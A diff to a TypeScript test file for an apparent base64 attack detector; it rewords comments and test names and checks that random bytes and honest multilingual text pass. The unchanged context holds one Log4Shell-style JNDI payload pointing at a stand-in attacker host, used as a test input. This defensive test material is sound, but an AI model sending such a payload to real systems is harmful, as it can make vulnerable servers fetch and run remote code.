@@ -12,7 +12,7 @@ const ATTACKS = [
   '${jndi:ldap://evil.example/a}',
 ]
 
-/** Bytes that are no text, by a seed. */
+/** Random bytes, by a seed. */
 function noise(seed: string, length: number): Buffer {
   const parts: Buffer[] = []
   for (let i = 0; i * 32 < length; i++) parts.push(createHash('sha256').update(`${seed} ${i}`).digest())
@@ -39,7 +39,7 @@ function verdictsOf(bytes: Buffer): readonly string[] {
 
 describe('bytes in base64', () => {
   for (const [name, around] of [
-    ['a byte that is no character', [Buffer.from([0xff]), Buffer.from([0x01])]],
+    ['a byte outside of every character', [Buffer.from([0xff]), Buffer.from([0x01])]],
     ['letters beyond ASCII', [Buffer.from('é '), Buffer.from(' été à Genève')]],
     ['another script', [Buffer.from('Привет '), Buffer.from(' 世界')]],
     ['zeros', [Buffer.alloc(4), Buffer.alloc(4)]],
@@ -67,14 +67,14 @@ describe('bytes in base64', () => {
       }
   })
 
-  test('that are no text are no attack: ids, keys, digests, encrypted values', () => {
+  test('pass when they are random: ids, keys, digests, encrypted values', () => {
     for (let i = 0; i < 5_000; i++)
       assert.deepEqual(verdictsOf(noise(`id ${i}`, 7 + (i % 60))), ['pass', 'pass'], `${i}`)
     for (let i = 0; i < 200; i++)
       assert.deepEqual(verdictsOf(noise(`value ${i}`, 2_048 + i)), ['pass', 'pass'], `${i}`)
   })
 
-  test('of messages that hold honest text are no attack', () => {
+  test('pass when they are messages that hold honest text', () => {
     const { publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
     const comment = Buffer.from('\x00\x00\x00\x19tEXtSoftware\x00Adobe ImageReady', 'latin1')
     for (const bytes of [
